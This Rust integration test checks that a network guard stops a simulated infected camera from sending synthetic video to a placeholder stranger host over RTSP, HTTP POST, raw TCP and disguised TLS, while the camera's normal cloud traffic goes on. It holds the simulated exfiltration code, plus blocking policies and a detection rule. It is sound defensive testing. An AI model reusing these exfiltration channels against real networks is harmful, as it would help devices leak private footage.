//! An infected camera: it does what cameras do, then video leaves it in four ways. The guard in between recognises each
//! and stops it, while the camera's own traffic goes on.
//!
//! ```text
//! camera 192.0.2.20 ── guard (inline pair) ── Internet: 198.51.100.10 (the maker's cloud), 203.0.113.66 (a stranger)
//! ```
//! In network name spaces made here. Needs root; says so and passes without.
#![allow(clippy::unwrap_used, clippy::print_stdout, reason = "tests may unwrap, and say what they measured")]
mod support;

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::path::Path;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::{Duration, Instant};
use support::{
    namespace::Network,
    process::Process,
    role::{is_role, role},
};

const CLOUD: &str = "198.51.100.10";
const STRANGER: &str = "203.0.113.66";
const RTSP: u16 = 8554;
const HTTP: u16 = 8080;
const RAW: u16 = 9999;
const TLS: u16 = 8443;
/// What each upload would send.
const VIDEO_BYTES: usize = 16 << 20;
/// What of it may arrive.
const ARRIVES_BYTES: u64 = 256 << 10;
const PATIENCE: Duration = Duration::from_secs(30);
const PIECE: usize = 16 << 10;

const POLICIES: &str = r#"
[[policy]]
name = "own cloud"
who = "group:cameras"
what = "peer:198.51.100.0/24"
do = "allow"

[[policy]]
name = "no video to strangers"
who = "group:cameras"
what = "category:media"
do = "reject"

[[policy]]
name = "nothing that nobody knows"
who = "group:cameras"
what = "unknown"
do = "block"

[[policy]]
name = "not much to strangers"
who = "group:cameras"
what = "sent:100kB"
do = "reject"
"#;
const RULES: &str = "reject http any any -> any any (msg:\"video leaves\"; flow:established,to_server; http.method; \
    content:\"POST\"; http.request_body; content:\"ftyp\"; offset:4; depth:4; sid:7;)\n";
const DEVICES: &str = "[[device]]\nname = \"cam-1\"\ngroup = \"cameras\"\naddress = \"192.0.2.20\"\n";

static MQTT_DONE: AtomicU32 = AtomicU32::new(0);
static NTP_DONE: AtomicU32 = AtomicU32::new(0);
static TLS_DONE: AtomicU32 = AtomicU32::new(0);

/// Serves each connection in a thread of its own.
fn serve(address: &str, port: u16, each: fn(TcpStream, u16)) {
    let listener = TcpListener::bind((address, port)).unwrap();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            stream.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
            std::thread::spawn(move || each(stream, port));
        }
    });
}

/// CONNECT and PINGREQ, MQTT 3.1.1 sections 3.1 and 3.12.
fn broker(mut stream: TcpStream, _port: u16) {
    let mut buffer = [0; 512];
    while let Ok(length @ 1..) = stream.read(&mut buffer) {
        let answer: &[u8] = if buffer[0] == 0x10 { &[0x20, 2, 0, 0] } else { &[0xd0, 0] };
        if buffer[..length].is_empty() || stream.write_all(answer).is_err() {
            return;
        }
    }
}

/// A ServerHello, then application data for application data.
fn tls_server(mut stream: TcpStream, _port: u16) {
    let mut buffer = [0; 2048];
    let Ok(1..) = stream.read(&mut buffer) else { return };
    let body = [&[3, 3][..], &[5; 32], &[0, 0x13, 1, 0, 0, 6, 0, 43, 0, 2, 3, 4]].concat();
    let message = [&[2, 0, 0, body.len() as u8][..], &body].concat();
    let hello = [&[22, 3, 3, 0, message.len() as u8][..], &message, &[20, 3, 3, 0, 1, 1]].concat();
    let _ = stream.write_all(&hello);
    while let Ok(length @ 1..) = stream.read(&mut buffer) {
        if stream.write_all(&buffer[..length]).is_err() {
            return;
        }
    }
}

/// Counts what arrives; answers what looks like a request of RTSP.
fn thief(mut stream: TcpStream, port: u16) {
    let (mut buffer, mut count, mut sequence) = (vec![0; 65_536], 0u64, 0);
    while let Ok(length @ 1..) = stream.read(&mut buffer) {
        count += length as u64;
        if port == RTSP && buffer[0].is_ascii_uppercase() {
            sequence += 1;
            let _ = stream.write_all(format!("RTSP/1.0 200 OK\r\nCSeq: {sequence}\r\n\r\n").as_bytes());
        }
    }
    println!("arrived {port} {count}");
}

#[test]
#[ignore = "a role of the test below, run in a name space"]
fn role_internet() {
    if !is_role("role_internet") {
        return;
    }
    serve(CLOUD, 1883, broker);
    serve(CLOUD, 443, tls_server);
    for port in [RTSP, HTTP, RAW, TLS] {
        serve(STRANGER, port, thief);
    }
    let ntp = UdpSocket::bind((CLOUD, 123)).unwrap();
    println!("\nInternet ready");
    let mut buffer = [0; 64];
    while let Ok((length, from)) = ntp.recv_from(&mut buffer) {
        buffer[0] = 0x24;
        let _ = ntp.send_to(&buffer[..length], from);
    }
}

fn connect(address: &str, port: u16) -> TcpStream {
    let address = SocketAddr::new(address.parse().unwrap(), port);
    let stream = TcpStream::connect_timeout(&address, Duration::from_secs(5)).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    stream.set_write_timeout(Some(Duration::from_secs(1))).unwrap();
    stream
}

/// What the camera does all day: keeps a connection to its broker alive, asks for the time, talks to its cloud.
fn usual_traffic() {
    let mut broker = connect(CLOUD, 1883);
    broker.write_all(b"\x10\x11\0\x04MQTT\x04\x02\0\x05\0\x05cam-1").unwrap();
    let mut answer = [0; 2048];
    broker.read_exact(&mut answer[..4]).unwrap();
    let clock = UdpSocket::bind("0.0.0.0:0").unwrap();
    clock.connect((CLOUD, 123)).unwrap();
    clock.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
    loop {
        broker.write_all(&[0xc0, 0]).unwrap();
        broker.read_exact(&mut answer[..2]).unwrap();
        MQTT_DONE.fetch_add(1, Ordering::Relaxed);
        let mut question = [0; 48];
        question[0] = 0x23;
        clock.send(&question).unwrap();
        assert_eq!(clock.recv(&mut answer).unwrap(), 48);
        NTP_DONE.fetch_add(1, Ordering::Relaxed);
        let mut cloud = connect(CLOUD, 443);
        cloud.write_all(&hello("cam.cloud.example")).unwrap();
        assert!(cloud.read(&mut answer).unwrap() > 0);
        cloud.write_all(&[&[23, 3, 3, 0, 32][..], &[1; 32]].concat()).unwrap();
        assert!(cloud.read(&mut answer).unwrap() > 0);
        TLS_DONE.fetch_add(1, Ordering::Relaxed);
        std::thread::sleep(Duration::from_millis(20));
    }
}

fn hello(name: &str) -> Vec<u8> {
    let entry = [&[0][..], &(name.len() as u16).to_be_bytes(), name.as_bytes()].concat();
    let named = [&(entry.len() as u16).to_be_bytes()[..], &entry].concat();
    let extension = [&[0, 0][..], &(named.len() as u16).to_be_bytes(), &named].concat();
    let length = (extension.len() as u16).to_be_bytes();
    let body = [&[3, 3][..], &[7; 32], &[0, 0, 2, 0x13, 1, 1, 0], &length, &extension].concat();
    let message = [&[1, 0][..], &(body.len() as u16).to_be_bytes(), &body].concat();
    [&[22, 3, 1][..], &(message.len() as u16).to_be_bytes(), &message].concat()
}

/// One upload: what is said first, then video in pieces that each begin with `head`.
fn upload(port: u16, first: &[&str], head: &[u8]) {
    let mut stream = connect(STRANGER, port);
    let mut answer = [0; 512];
    for text in first {
        if stream.write_all(text.as_bytes()).is_err() || (port == RTSP && stream.read(&mut answer).is_err()) {
            break;
        }
    }
    send_video(stream, port, head);
}

fn send_video(mut stream: TcpStream, port: u16, head: &[u8]) {
    let mut piece: Vec<u8> =
        (0..PIECE as u32).map(|at| (at.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    piece[..head.len()].copy_from_slice(head);
    let mut sent = 0;
    while sent < VIDEO_BYTES {
        match stream.write(&piece) {
            Ok(count) => sent += count,
            Err(_) => break,
        }
    }
    println!("upload {port} {}", if sent < VIDEO_BYTES { "stopped" } else { "done" });
}

fn done() -> [u32; 3] {
    [&MQTT_DONE, &NTP_DONE, &TLS_DONE].map(|count| count.load(Ordering::Relaxed))
}

#[test]
#[ignore = "a role of the test below, run in a name space"]
fn role_camera() {
    if !is_role("role_camera") {
        return;
    }
    std::thread::spawn(|| {
        let ended = std::panic::catch_unwind(usual_traffic);
        println!("usual traffic ended: {ended:?}");
    });
    let since = |before: [u32; 3]| {
        let until = Instant::now() + Duration::from_secs(10);
        while done().iter().zip(before).any(|(now, before)| *now < before + 10) && Instant::now() < until {
            std::thread::sleep(Duration::from_millis(10));
        }
        let [mqtt, ntp, tls] = done();
        println!("\nusual {} {} {}", mqtt - before[0], ntp - before[1], tls - before[2]);
    };
    since([0; 3]);
    let before = done();
    let record = "RTSP/1.0\r\nCSeq: 1\r\nSession: 1\r\n\r\n";
    let uri = format!("rtsp://{STRANGER}:{RTSP}/live");
    upload(
        RTSP,
        &[&format!("ANNOUNCE {uri} {record}"), &format!("RECORD {uri} {record}")],
        b"$\0\x3f\xfc\x80\x60",
    );
    since(before);
    let before = done();
    let post =
        format!("POST /up HTTP/1.1\r\nHost: {STRANGER}:{HTTP}\r\nContent-Length: {VIDEO_BYTES}\r\n\r\n");
    upload(HTTP, &[&post], b"\0\0\0\x20ftypisom");
    since(before);
    let before = done();
    upload(RAW, &[], b"\xa5\x5a\x17\xe1\x99");
    since(before);
    let before = done();
    let mut stream = connect(STRANGER, TLS);
    stream.write_all(&hello("cdn.example")).unwrap();
    send_video(stream, TLS, &[&[23, 3, 3][..], &(PIECE as u16 - 5).to_be_bytes()].concat());
    since(before);
    println!("camera done");
    std::thread::sleep(PATIENCE);
}

/// The usual traffic of a stretch: ten of each at least.
fn goes_on(camera: &mut Process) {
    let line = camera.wait_for("usual traffic", PATIENCE, |line| line.starts_with("usual"));
    let counts: Vec<u32> = line.split(' ').skip(1).map(|count| count.parse().unwrap()).collect();
    assert!(counts.len() == 3 && counts.iter().all(|count| *count >= 10), "{line}");
}

fn world(folder: &Path) -> Option<(Network, Process)> {
    let mut network = Network::new("ca")?;
    for host in ["c", "g", "s"] {
        network.host(host);
    }
    network.link(("c", "e0", &["192.0.2.20/24"]), ("g", "g0", &[]));
    network.link(("s", "e0", &["192.0.2.1/24", "198.51.100.10/32", "203.0.113.66/32"]), ("g", "g1", &[]));
    network.route("c", "192.0.2.1");
    for (name, text) in [("policies.toml", POLICIES), ("video.rules", RULES), ("devices.toml", DEVICES)] {
        std::fs::write(folder.join(name), text).unwrap();
    }
    let mut command = network.command("g", env!("CARGO_BIN_EXE_otori"));
    command.args(["guard", "--inline", "g0:g1", "--home", "192.0.2.20", "--name", "wire"]);
    for (option, name) in [
        ("--policy", "policies.toml"),
        ("--rules", "video.rules"),
        ("--devices", "devices.toml"),
        ("--eve", "eve.json"),
    ] {
        command.arg(option).arg(folder.join(name));
    }
    let mut guard = Process::start("guard", &mut command);
    guard.wait_for("engine", PATIENCE, |line| line.contains("answers after"));
    Some((network, guard))
}

#[test]
fn a_camera_that_leaks_video_is_stopped_and_goes_on_working() {
    let folder = tempfile::tempdir().unwrap();
    let Some((network, mut guard)) = world(folder.path()) else { return };
    let mut internet = role(&network, "s", "role_internet");
    internet.wait_for("servers", PATIENCE, |line| line == "Internet ready");
    let mut camera = role(&network, "c", "role_camera");
    goes_on(&mut camera);
    for port in [RTSP, HTTP, RAW, TLS] {
        let line = camera.wait_for("the upload", PATIENCE, |line| line.starts_with("upload"));
        assert_eq!(line, format!("upload {port} stopped"));
        goes_on(&mut camera);
        let line = internet.wait_for("what arrived", PATIENCE, |line| line.starts_with("arrived"));
        println!("{line} bytes of {VIDEO_BYTES}");
        let count =
            line.strip_prefix(&format!("arrived {port} ")).and_then(|count| count.parse::<u64>().ok());
        assert!(count.is_some_and(|count| count < ARRIVES_BYTES), "{line}");
    }
    camera.wait_for("the end", PATIENCE, |line| line == "camera done");
    assert!(guard.terminate().unwrap().success());
    check_log(&folder.path().join("eve.json"));
}

fn check_log(path: &Path) {
    let text = std::fs::read_to_string(path).unwrap();
    let lines: Vec<serde_json::Value> =
        text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let alerts: Vec<_> = lines.iter().filter(|line| line["event_type"] == "alert").collect();
    for (port, signature, application) in [
        (RTSP, "policy no video to strangers: reject category:media", Some("rtsp")),
        (HTTP, "video leaves", None),
        (RAW, "policy nothing that nobody knows: block unknown", None),
        (TLS, "policy not much to strangers: reject sent:100kB", Some("tls")),
    ] {
        let about: Vec<_> = alerts.iter().filter(|line| line["dest_port"] == port).collect();
        assert_eq!(about.len(), 1, "{port}: {about:?}");
        let alert = &about[0]["alert"];
        assert_eq!((&alert["signature"], &alert["action"]), (&signature.into(), &"blocked".into()));
        assert_eq!(about[0]["device"]["name"], "cam-1");
        if let Some(application) = application {
            assert_eq!(alert["metadata"]["application"][0], application);
        }
    }
    assert_eq!(alerts.len(), 4, "nothing of the usual traffic");
    for kind in ["mqtt", "tls", "flow"] {
        assert!(lines.iter().any(|line| line["event_type"] == kind), "{kind}");
    }
    let dropped = lines.iter().filter(|line| line["event_type"] == "drop");
    assert!(
        dropped.clone().count() > 0
            && dropped.clone().all(|line| line["dest_ip"] == STRANGER || line["src_ip"] == STRANGER)
    );
}
